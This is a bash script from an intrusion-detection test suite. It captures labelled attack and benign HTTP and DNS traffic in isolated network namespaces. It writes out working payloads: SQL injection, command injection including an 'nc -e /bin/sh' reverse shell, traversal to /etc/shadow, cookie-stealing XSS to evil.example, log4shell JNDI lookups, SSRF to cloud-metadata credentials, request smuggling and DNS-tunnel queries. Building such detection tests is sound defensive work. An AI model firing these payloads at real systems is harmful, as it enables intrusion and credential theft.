#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
#
# capture-attacks.sh - record the attack and benign pcaps of tests/data/ that
# the signature sets are checked against (run as root).
#
# Same test bed as capture-l7.sh (tests/data/netns-lib.sh): a "switch"
# namespace holding a Linux bridge and "container" namespaces on its veth
# ports, real servers and real clients, tcpdump on the bridge:
#
#   web  10.99.3.10 / fd00:99:3::10   nginx (shop.test; 404 is fine for attacks)
#   dns  10.99.3.53 / fd00:99:3::53   dnsmasq, local zones shop.test and tunnel.test
#   cli1 10.99.3.101, cli2 10.99.3.102: curl, dig, python3 sockets
#
#   attack-http.pcap   one TCP connection per request: sqli (sqlmap-style query
#                      parameters, form body, cookie, URI path, stacked,
#                      error-based), cmdi (;id, |cat, $(), backticks,
#                      shellshock), traversal (raw, encoded, php://filter,
#                      /etc/passwd), xss, jndi (plain and nested lookups in
#                      headers and parameters), ssrf-metadata (dotted,
#                      decimal, hex, IPv6-mapped, metadata.google.internal),
#                      scanner user agents, http-anomaly (python sockets: CL
#                      and TE both, two Content-Lengths, an invalid one, 150
#                      fields, a 17 KiB head, two bad Transfer-Encodings),
#                      one request over IPv6
#   benign-http.pcap   browsers, kube-probe, Prometheus, REST JSON
#                      GET/POST/PUT/PATCH/DELETE, CORS preflight, forms,
#                      searches with "select", "union", "drop", O'Brien,
#                      base64 and JWT values, UUID paths, templates with ${},
#                      a chunked upload, one request over IPv6
#   attack-dns.pcap    dig: TXT, NULL, A and CNAME queries whose names carry
#                      base32 or hex of pseudo-random bytes (iodine / dnscat2
#                      shapes: 63-byte labels, high entropy), one over TCP and
#                      one over IPv6; AXFR and IXFR requests
#   benign-dns.pcap    A, AAAA, MX, SRV, TXT, SOA, NS, PTR, CNAME, NXDOMAIN,
#                      REFUSED, +tcp, IPv6, a long pod name, an ELB-style name
#
# Expectations travel with the traffic: every HTTP request carries
# `X-Bh-Expect: SET[,SET...]` or `X-Bh-Expect: none` (the alert sets it must
# raise on its connection); DNS ones are written beside the pcaps as
# attack-dns.expect and benign-dns.expect (`QNAME SETS` per line). The DNS
# names are pseudo-random but fixed (SHAKE-256 of a tag), so the .expect files do
# not change between runs. Checker: tests/golden/alerts_check.py.
#
# Usage: tests/data/capture-attacks.sh [OUTDIR]   (default: the directory of this file)
#
# Every name carries $$; the EXIT trap removes every namespace, link and
# temporary file and ends only the processes this run started (by pid). The
# files are installed only if tcpdump dropped nothing, tshark sees no lost
# segment, every request and query is in the capture, no client port was
# reused, and each pcap is under 300 KB.

# The payloads are literal: `$(..)`, backticks and ${jndi:..} must reach the
# server as written.
# shellcheck disable=SC2016
set -euo pipefail

HERE=$(cd "$(dirname "$0")" && pwd)
OUT=${1:-$HERE}
mkdir -p "$OUT"
OUT=$(cd "$OUT" && pwd)

WHO=capture-attacks.sh
# shellcheck source=SCRIPTDIR/netns-lib.sh
. "$HERE/netns-lib.sh"
PY=/usr/bin/python3
nl_need ip ss tcpdump tshark capinfos nginx dnsmasq dig curl ethtool "$PY"

ID=$$
P=bha$ID                      # namespace prefix
SW=$P-sw
BR=bhab$ID
VETH=bha$ID
NAMES=(web dns cli1 cli2)
declare -A IP4=([web]=10.99.3.10 [dns]=10.99.3.53 [cli1]=10.99.3.101 [cli2]=10.99.3.102)
declare -A IP6=([web]=fd00:99:3::10 [dns]=fd00:99:3::53 [cli1]=fd00:99:3::101 [cli2]=fd00:99:3::102)
declare -A MAC=([web]=02:99:00:00:03:0a [dns]=02:99:00:00:03:35 [cli1]=02:99:00:00:03:65 [cli2]=02:99:00:00:03:66)
declare -A VSHORT=([web]=w [dns]=d [cli1]=a [cli2]=b)

nl_init /tmp/bhatk.XXXXXX
nl_topology

# ---------------------------------------------------------------- nginx
WWW=$TMP/www
mkdir -p "$WWW/static" "$TMP/nginx"
printf '<!doctype html>\n<title>shop.test</title>\n<p>Welcome to the shop.</p>\n' >"$WWW/index.html"
printf 'User-agent: *\nDisallow: /admin/\n' >"$WWW/robots.txt"
printf 'body { color: #333; background: #fafafa; }\n%.0s' $(seq 1 20) >"$WWW/static/style.css"
printf 'document.addEventListener("DOMContentLoaded", function () { console.log("shop"); });\n' >"$WWW/static/app.js"
chmod -R a+rX "$TMP"
# The application paths answer 200 for any method (return discards a request
# body); everything else is a static file or 404.
{
	nl_nginx_head "$TMP/nginx"
	cat <<EOF
	types { text/html html; text/css css; application/javascript js; text/plain txt; }
	server {
		listen ${IP4[web]}:80;
		listen [${IP6[web]}]:80;
		server_name shop.test;
		root $WWW;
		location = /healthz { default_type text/plain; return 200 "ok\n"; }
		location = /readyz { default_type text/plain; return 200 "ok\n"; }
		location = /metrics { default_type text/plain; return 200 "# TYPE up gauge\nup 1\n"; }
		location /api/ { default_type application/json; return 200 '{"ok":true}\n'; }
		location ~ ^/(search|login|comment|fetch|download|customers|greeting|cart|profile|product\.php) {
			default_type text/html; return 200 "<p>results</p>\n"; }
	}
}
EOF
} >"$TMP/nginx/nginx.conf"
ip netns exec "$P-web" nginx -c "$TMP/nginx/nginx.conf" -p "$TMP/nginx" >"$TMP/nginx/stdout" 2>&1 &
PIDS+=("$!")

# ---------------------------------------------------------------- dnsmasq
nl_dnsmasq dns "$TMP/dnsmasq.log" \
	--local=/shop.test/ --local=/tunnel.test/ --local-ttl=300 \
	--host-record=shop.test,"${IP4[web]}","${IP6[web]}" \
	--host-record=www.shop.test,"${IP4[web]}","${IP6[web]}" \
	--host-record=web.shop.test,"${IP4[web]}","${IP6[web]}" \
	--host-record=mail.shop.test,"${IP4[web]}" \
	--host-record=db.shop.test,10.99.3.33 \
	--cname=api.shop.test,web.shop.test,600 \
	--mx-host=shop.test,mail.shop.test,10 \
	--srv-host=_http._tcp.shop.test,web.shop.test,80,0,10 \
	--txt-record='shop.test,v=spf1 mx -all' \
	--txt-record='_dmarc.shop.test,v=DMARC1; p=reject; rua=mailto:dmarc@shop.test'

wait_listen web t 80 "$TMP/nginx/error.log" "$TMP/nginx/stdout"
wait_listen dns u 53 "$TMP/dnsmasq.log"
wait_listen dns t 53 "$TMP/dnsmasq.log"

FILTER='(ip and net 10.99.3.0/24 and not ip multicast) or (ip6 and net fd00:99:3::/64 and not ip6 multicast)'

# ---------------------------------------------------------------- DNS plan
# TYPE NAME SETS TRANSPORT lines; names from pseudo-random bytes, so the
# .expect files are the same on every run.
"$PY" - >"$TMP/dns-plan" <<'EOF'
import base64, hashlib

def rnd(tag, n):
    return hashlib.shake_256(tag).digest(n)

def b32(b):
    return base64.b32encode(b).decode().rstrip("=").lower()

def labels(s, n):
    return ".".join(s[i:i + n] for i in range(0, len(s), n))

T = "tunnel.test"
attack = [
    # iodine-like: base32 upstream data in 63-byte labels, TXT and NULL
    ("TXT", "%s.t.%s" % (labels(b32(rnd(b"iodine-txt", 100)), 63), T), "dns-tunnel", "udp"),
    ("NULL", "p%s.%s" % (labels(b32(rnd(b"iodine-null", 90)), 62), T), "dns-tunnel", "udp"),
    # dnscat2-like: hex of the session packet, 2 labels
    ("TXT", "%s.%s" % (labels(rnd(b"dnscat2-txt", 60).hex(), 60), T), "dns-tunnel", "udp"),
    ("CNAME", "%s.%s" % (labels(rnd(b"dnscat2-cname", 45).hex(), 45), T), "dns-tunnel", "udp"),
    ("NULL", "%s.%s" % (labels(rnd(b"dnscat2-null", 50).hex(), 50), T), "dns-tunnel", "tcp"),
    # high-entropy subdomains of moderate length, A queries (exfiltration)
    ("A", "%s.x.%s" % (labels(b32(rnd(b"exfil-a", 40)), 32), T), "dns-tunnel", "udp"),
    ("A", "%s.%s" % (b32(rnd(b"exfil-long", 39)), T), "dns-tunnel", "udp6"),
    ("TXT", "%s.c2.%s" % (labels(b32(rnd(b"c2-poll", 30)), 48), T), "dns-tunnel", "udp"),
    # zone transfers requested by a workload
    ("AXFR", "shop.test", "dns-anomaly", "tcp"),
    ("AXFR", "3.99.10.in-addr.arpa", "dns-anomaly", "tcp"),
    ("IXFR=2024010101", T, "dns-anomaly", "tcp"),
]
benign = [
    ("A", "shop.test", "none", "udp"),
    ("A", "www.shop.test", "none", "udp"),
    ("AAAA", "web.shop.test", "none", "udp"),
    ("MX", "mail-routing.shop.test", "none", "udp"),
    ("MX", "lists.shop.test", "none", "tcp"),
    ("SRV", "_http._tcp.shop.test", "none", "udp"),
    ("TXT", "_dmarc.shop.test", "none", "udp"),
    ("TXT", "_acme-challenge.shop.test", "none", "udp"),
    ("SOA", "tunnel.test", "none", "udp"),
    ("PTR", "10.3.99.10.in-addr.arpa", "none", "udp"),
    ("A", "api.shop.test", "none", "udp"),
    ("A", "missing.shop.test", "none", "udp"),
    ("A", "db.shop.test", "none", "tcp"),
    ("AAAA", "mail.shop.test", "none", "udp6"),
    ("A", "kube-dns-autoscaler-7d5f8b9c6-x2k4p.shop.test", "none", "udp"),
    ("A", "k8s-default-shopingr-1a2b3c4d5e-1234567890.us-east-1.elb.amazonaws.com", "none", "udp"),
    ("A", "d2a8f4k9c7b1e3.cloudfront.net", "none", "udp"),
    ("SRV", "_ldap._tcp.dc._msdcs.corp.shop.test", "none", "udp"),
    ("NS", "corp.shop.test", "none", "udp"),
    ("A", "ocsp.digicert.com", "none", "udp"),
]
for kind, rows in (("attack", attack), ("benign", benign)):
    assert len({r[1] for r in rows}) == len(rows), "the .expect files key on unique names"
    for t, name, sets, tr in rows:
        print(kind, t, name, sets, tr)
EOF

# ---------------------------------------------------------------- HTTP clients
W=http://shop.test
CURL=(curl -sS --max-time 10 -o /dev/null --resolve "shop.test:80:${IP4[web]}")
NREQ=0
CLI=cli1
# hit EXPECT CURL-ARGS...: one curl invocation, one connection, one request,
# from cli1 and cli2 in turn.
hit() {
	local e=$1; shift
	nsx "$CLI" "${CURL[@]}" -H "X-Bh-Expect: $e" "$@"
	NREQ=$((NREQ + 1))
	if [ "$CLI" = cli1 ]; then CLI=cli2; else CLI=cli1; fi
}
# raw KIND: a request curl will not send, from a python socket (raw.py).
raw() {
	nsx "$CLI" "$PY" "$TMP/raw.py" "${IP4[web]}" "$1" >/dev/null
	NREQ=$((NREQ + 1))
	if [ "$CLI" = cli1 ]; then CLI=cli2; else CLI=cli1; fi
}
cat >"$TMP/raw.py" <<'EOF'
import socket, sys

def head(path, fields, expect="http-anomaly"):
    h = "POST %s HTTP/1.1\r\nHost: shop.test\r\nUser-Agent: python-raw/1.0\r\nX-Bh-Expect: %s\r\n" % (path, expect)
    return (h + "".join("%s: %s\r\n" % f for f in fields) + "Connection: close\r\n\r\n").encode()

def many_fields():
    h = head("/api/v1/items", [("X-Trace-%03d" % i, "span-%03d" % i) for i in range(150)])
    return h.replace(b"POST", b"GET", 1)

KINDS = {
    # CL.TE request smuggling: the chunked body ends the request for one
    # reader, Content-Length ends it elsewhere for the other.
    "cl-te": head("/api/v1/cart", [("Content-Type", "application/x-www-form-urlencoded"),
                                    ("Content-Length", "6"), ("Transfer-Encoding", "chunked")])
             + b"0\r\n\r\nG",
    "cl-conflict": head("/api/v1/cart", [("Content-Length", "5"), ("Content-Length", "11")]) + b"item=5&q=22",
    "cl-invalid": head("/api/v1/cart", [("Content-Length", "12abc")]) + b"item=5&q=2&x",
    "te-unknown": head("/api/v1/cart", [("Transfer-Encoding", "xchunked")]) + b"5\r\nitem=\r\n0\r\n\r\n",
    "te-not-last": head("/api/v1/cart", [("Transfer-Encoding", "chunked, identity")]) + b"5\r\nitem=\r\n0\r\n\r\n",
    "many-fields": many_fields(),
    "huge-head": head("/api/v1/items", [("X-Padding", "a" * 17000)]).replace(b"POST", b"GET", 1),
}

s = socket.create_connection((sys.argv[1], 80), timeout=3)
s.sendall(KINDS[sys.argv[2]])
n = 0
try:
    while True:
        b = s.recv(65536)
        if not b:
            break
        n += len(b)
except socket.timeout:
    pass
s.close()
print(n)
EOF

CHROME='Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36'
FIREFOX='Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0'
SAFARI='Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15'
EDGE='Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.80'
FORM=(-H 'Content-Type: application/x-www-form-urlencoded')
JSON=(-H 'Content-Type: application/json' -H 'Accept: application/json')

# --- attacks ------------------------------------------------------------------
start_cap attack-http.pcap "$SW" "$BR"
N0=$NREQ
# sqli: sqlmap-style boolean, UNION, time and error payloads; form body,
# cookie, URI path, stacked query; over IPv6
hit sqli -G --data-urlencode "id=1' AND 4321=4321 AND 'ZxYw'='ZxYw" "$W/product.php"
hit sqli -G --data-urlencode "id=-7431 UNION ALL SELECT NULL,CONCAT(0x716b6a7071,0x4a6f6e,0x7176787a71),NULL-- -" "$W/product.php"
hit sqli -G --data-urlencode "id=1' AND (SELECT 8190 FROM (SELECT(SLEEP(5)))xYzA)-- -" "$W/product.php"
hit sqli "${FORM[@]}" --data-urlencode "username=admin'-- -" --data-urlencode "password=whatever" "$W/login"
hit sqli -b "session=5f2a9c0d1e; cart_id=1' OR '1'='1" "$W/cart"
hit sqli --path-as-is "$W/api/v1/users/1%20UNION%20SELECT%20username,password%20FROM%20users--"
hit sqli -G --data-urlencode "sort=name; DROP TABLE orders-- -" "$W/api/v1/orders"
hit sqli,scanner -A 'sqlmap/1.7.2#stable (https://sqlmap.org)' \
	-G --data-urlencode "cat=2 AND EXTRACTVALUE(1,CONCAT(0x5c,(SELECT version())))" "$W/product.php"
nsx "$CLI" curl -sS --max-time 10 -o /dev/null -g -H 'Host: shop.test' -H 'X-Bh-Expect: sqli' \
	"http://[${IP6[web]}]/product.php?id=1%20OR%201%3D1--%20-"
NREQ=$((NREQ + 1))
# cmdi
hit cmdi -G --data-urlencode "host=127.0.0.1;id" "$W/api/v1/tools/ping"
# "|cat /etc/passwd" is command injection; the traversal set fires on
# /etc/passwd only as the value itself or after "..", a scheme or a NUL
# (dpi/rules/traversal.rules), not wherever the text names the file.
hit cmdi -G --data-urlencode "file=report.txt|cat /etc/passwd" "$W/api/v1/tools/view"
hit cmdi -G --data-urlencode 'host=127.0.0.1$(whoami)' "$W/api/v1/tools/ping"
hit cmdi "${FORM[@]}" --data-urlencode 'domain=example.com`uname -a`' "$W/api/v1/tools/whois"
hit cmdi -A '() { :; }; /bin/bash -c "id"' "$W/cgi-bin/status"
hit cmdi "${FORM[@]}" --data-urlencode 'target=10.0.0.1; nc -e /bin/sh 10.99.3.66 4444' "$W/api/v1/tools/trace"
# traversal
hit traversal --path-as-is "$W/static/../../../../etc/passwd"
hit traversal -G --data-urlencode "file=../../../../etc/passwd" "$W/download"
hit traversal --path-as-is "$W/download?file=..%2f..%2f..%2f..%2fetc%2fshadow"
hit traversal -G --data-urlencode "page=php://filter/convert.base64-encode/resource=index.php" "$W/index.php"
hit traversal --path-as-is "$W/static/%2e%2e/%2e%2e/%2e%2e/etc/hosts"
hit traversal -G --data-urlencode "template=/etc/passwd" "$W/api/v1/render"
# xss
hit xss -G --data-urlencode "q=<script>alert(document.cookie)</script>" "$W/search"
hit xss -G --data-urlencode 'name=<img src=x onerror=alert(1)>' "$W/profile"
hit xss -G --data-urlencode 'next=javascript:alert(document.domain)' "$W/login"
hit xss "${FORM[@]}" --data-urlencode 'comment=Nice post!<script src=//evil.example/x.js></script>' "$W/comment"
hit xss "${FORM[@]}" --data-urlencode "bio=\"><img src=1 onerror=fetch('//evil.example/?c='+document.cookie)>" "$W/profile"
# jndi (log4shell): headers and a parameter, plain and nested lookups
hit jndi -A '${jndi:ldap://10.99.3.66:1389/Exploit}' "$W/"
hit jndi -H 'X-Api-Version: ${jndi:rmi://10.99.3.66:1099/a}' "$W/api/v1/status"
hit jndi -H 'Referer: ${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://10.99.3.66/a}' "$W/"
hit jndi -G --data-urlencode 'q=${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://10.99.3.66/a}' "$W/search"
hit jndi -H 'X-Forwarded-For: ${jndi:dns://10.99.3.66/callback}' "$W/login"
# ssrf-metadata
hit ssrf-metadata -G --data-urlencode "url=http://169.254.169.254/latest/meta-data/iam/security-credentials/" "$W/fetch"
hit ssrf-metadata -G --data-urlencode "url=http://2852039166/" "$W/fetch"
hit ssrf-metadata -G --data-urlencode "url=http://0xa9fea9fe/latest/user-data" "$W/fetch"
hit ssrf-metadata -G --data-urlencode "url=http://[::ffff:a9fe:a9fe]/" "$W/fetch"
hit ssrf-metadata -G --data-urlencode "url=http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token" "$W/fetch"
hit ssrf-metadata "${FORM[@]}" --data-urlencode "name=deploy" --data-urlencode "webhook=http://169.254.169.254/latest/meta-data/" "$W/api/v1/webhooks"
# scanner user agents
hit scanner -A 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000562)' "$W/admin/"
hit scanner -A 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)' "$W/"
hit scanner -A 'masscan/1.3 (https://github.com/robertdavidgraham/masscan)' "$W/"
hit scanner -A 'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)' "$W/.git/config"
hit scanner -A 'gobuster/3.6' "$W/backup.zip"
hit scanner -A 'Wfuzz/3.1.0' "$W/admin.php"
hit scanner -A 'sqlmap/1.7.2#stable (https://sqlmap.org)' "$W/product.php?id=1"
# http-anomaly
for k in cl-te cl-conflict cl-invalid te-unknown te-not-last many-fields huge-head; do raw "$k"; done
stop_caps
N_ATTACK_HTTP=$((NREQ - N0))

# --- benign -------------------------------------------------------------------
start_cap benign-http.pcap "$SW" "$BR"
N0=$NREQ
hit none -A "$FIREFOX" -H 'Accept: text/html' -H 'Accept-Language: en-GB,en;q=0.8' "$W/"
hit none -A "$CHROME" "$W/index.html"
hit none -A "$SAFARI" -H 'Referer: http://shop.test/' "$W/static/style.css"
hit none "$W/robots.txt"
hit none -A 'kube-probe/1.29' "$W/healthz"
hit none -A 'kube-probe/1.29' "$W/readyz"
hit none -A 'Prometheus/2.45.0' -H 'Accept: text/plain;version=0.0.4' "$W/metrics"
hit none "${JSON[@]}" -G "$W/api/v1/orders/3f2b8c1e-9a4d-4e1b-8c7f-2d5e6a9b0c1d"
hit none "${JSON[@]}" -d '{"name":"Siobhán O'\''Brien","email":"sobrien@example.com","city":"Dún Laoghaire"}' "$W/api/v1/customers"
hit none "${JSON[@]}" -X PUT -d '{"name":"Patrick O'\''Neill","note":"prefers '\''express'\'' delivery"}' "$W/api/v1/customers/42"
hit none "${JSON[@]}" -X PATCH -d '{"status":"shipped","carrier":"DHL"}' "$W/api/v1/orders/17"
hit none -X DELETE "$W/api/v1/cart/items/42"
hit none -A "$FIREFOX" -G --data-urlencode "q=how to select a union representative" "$W/search"
hit none -A "$CHROME" -G --data-urlencode "q=drop shipping from union station" "$W/search"
hit none -A "$EDGE" -G --data-urlencode "q=select committee report on the union budget" "$W/search"
hit none -A "$SAFARI" -G --data-urlencode "name=O'Brien" "$W/customers"
hit none "${FORM[@]}" --data-urlencode "name=Miles O'Reilly" --data-urlencode "comment=It's great, I'd buy it again & again!" "$W/comment"
hit none -G --data-urlencode "file=reports/2024/q3-summary.pdf" "$W/download"
hit none -G --data-urlencode "token=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkFkYSJ9.dBjftJeZ4CVPmB92K27uhbUJU1p1r_wW1gFWFOEjXk" "$W/api/v1/session"
hit none -G --data-urlencode "data=U0VMRUNUIHN0dWZmIGZyb20gdGhlIHNob3A=" "$W/api/v1/blob"
hit none -A "$FIREFOX" "$W/docs/sql/select-statements.html"
hit none -A "$CHROME" "$W/blog/2024/05/why-we-dropped-our-union-of-services"
hit none -A "$FIREFOX" -b "session=9f8e7d6c5b4a3f2e; theme=dark; lang=en-GB; last_search=O'Brien" "$W/cart"
hit none -G --data-urlencode "url=https://cdn.shop.test/images/banner.png" "$W/fetch"
hit none -G --data-urlencode "ip=10.99.3.33" "$W/api/v1/nodes"
hit none -A "$EDGE" -G --data-urlencode "q=javascript tutorial for beginners" "$W/search"
hit none -A "$SAFARI" -G --data-urlencode "q=script writing workshop" "$W/search"
hit none -G --data-urlencode 'template=Hello ${name}, welcome back' "$W/greeting"
hit none -A "$CHROME" -G --data-urlencode "q=Tom & Jerry; the movie" "$W/search"
hit none -X OPTIONS -H 'Origin: http://app.shop.test' -H 'Access-Control-Request-Method: POST' \
	-H 'Access-Control-Request-Headers: content-type' "$W/api/v1/orders"
hit none -I "$W/index.html"
hit none -A 'Go-http-client/1.1' "$W/api/v1/status"
hit none -A 'python-requests/2.31.0' "$W/api/v1/products?page=2&per_page=50&sort=-price"
hit none -A "$CHROME" -H 'Accept-Encoding: gzip, deflate, br' -H 'If-None-Match: "65f1c2a8-5b"' "$W/static/app.js"
hit none -H 'Transfer-Encoding: chunked' -H 'Content-Type: text/plain' \
	--data-binary "$(printf 'lorem ipsum dolor sit amet %.0s' $(seq 1 40))" "$W/api/v1/upload"
hit none "${FORM[@]}" --data-urlencode "username=alice" --data-urlencode "password=Tr0ub4dor&3" "$W/login"
hit none -A "$FIREFOX" -G --data-urlencode "q=100% cotton t-shirt" "$W/search"
hit none -G --data-urlencode "filter[brand]=O'Neill" --data-urlencode "filter[price][gte]=10" "$W/api/v1/search"
hit none -A "$EDGE" "$W/product.php?id=1042"
hit none "${JSON[@]}" -d '{"text":"Great <b>product</b>, 5 stars","rating":5}' "$W/api/v1/comments"
hit none -A "$SAFARI" -H 'Referer: http://shop.test/' "$W/about/privacy-policy"
hit none -G --data-urlencode "field=instance-type" "$W/api/v1/metadata"
hit none -H 'Authorization: Bearer 8c1b6f0e2d4a4f9b9c7e5a3d1f0b2c4e' "$W/api/v1/users/me"
nsx "$CLI" curl -sS --max-time 10 -o /dev/null -g -H 'Host: shop.test' -H 'X-Bh-Expect: none' -A "$FIREFOX" \
	"http://[${IP6[web]}]/static/style.css"
NREQ=$((NREQ + 1))
stop_caps
N_BENIGN_HTTP=$((NREQ - N0))

# ---------------------------------------------------------------- DNS clients
# dig_plan KIND: run the plan's queries of KIND, one dig each, and write
# $TMP/KIND-dns.expect.
dig_plan() {
	local kind=$1 k t name sets tr cli=cli1 ns extra
	echo "# $kind-dns.pcap: QNAME SETS (written by capture-attacks.sh; tests/golden/alerts_check.py)" \
		>"$TMP/$kind-dns.expect"
	while read -r k t name sets tr; do
		[ "$k" = "$kind" ] || continue
		ns=${IP4[dns]}
		extra=()
		case $tr in
		tcp) extra=(+tcp) ;;
		udp6) ns=${IP6[dns]} ;;
		esac
		case $t in
		AXFR | IXFR=*) nsx "$cli" dig +tries=1 +time=3 @"$ns" "$name" "$t" >/dev/null || true ;;
		*) nsx "$cli" dig +tries=1 +time=3 "${extra[@]}" @"$ns" "$name" "$t" >/dev/null ;;
		esac
		echo "$name $sets" >>"$TMP/$kind-dns.expect"
		if [ "$cli" = cli1 ]; then cli=cli2; else cli=cli1; fi
	done <"$TMP/dns-plan"
}

start_cap attack-dns.pcap "$SW" "$BR"
dig_plan attack
stop_caps
start_cap benign-dns.pcap "$SW" "$BR"
dig_plan benign
stop_caps

# ---------------------------------------------------------------- check, install
CAPS=(attack-http.pcap benign-http.pcap attack-dns.pcap benign-dns.pcap)
nl_check_caps "${CAPS[@]}"
# Every HTTP request on its own connection, every connection's client port
# used once (the checker keys connections by client address and port).
check_http() { # file requests
	local f=$1 want=$2 syns reqs dup
	syns=$(tshark -r "$TMP/$f" -Y 'tcp.flags.syn == 1 && tcp.flags.ack == 0' -T fields \
		-e ip.src -e ipv6.src -e tcp.srcport 2>/dev/null)
	dup=$(sort <<<"$syns" | uniq -d)
	[ -z "$dup" ] || die "$f: a client port was used twice ($dup), rerun"
	syns=$(grep -c . <<<"$syns" || true)
	[ "$syns" = "$want" ] || die "$f: $syns connections, sent $want requests"
	reqs=$(tshark -r "$TMP/$f" -Y 'http.request' -T fields -e tcp.stream -e http.request.line 2>/dev/null |
		grep -c 'X-Bh-Expect: ' || true)
	[ "$reqs" = "$want" ] || die "$f: tshark sees $reqs requests with X-Bh-Expect, sent $want"
}
check_http attack-http.pcap "$N_ATTACK_HTTP"
check_http benign-http.pcap "$N_BENIGN_HTTP"
for kind in attack benign; do
	f=$kind-dns.pcap
	tshark -r "$TMP/$f" -Y 'dns.flags.response == 0' -T fields -e dns.qry.name 2>/dev/null |
		tr '[:upper:]' '[:lower:]' | sort -u >"$TMP/$kind.qnames"
	grep -v '^#' "$TMP/$kind-dns.expect" | while read -r name _; do
		grep -qxF "$name" "$TMP/$kind.qnames" || die "$f: no query for $name in the capture"
	done
done

nl_install "$OUT" "${CAPS[@]}"
cp "$TMP/attack-dns.expect" "$TMP/benign-dns.expect" "$OUT/"
echo "HTTP requests: $N_ATTACK_HTTP attack, $N_BENIGN_HTTP benign; DNS names: $(grep -vc '^#' "$OUT/attack-dns.expect") attack, $(grep -vc '^#' "$OUT/benign-dns.expect") benign"
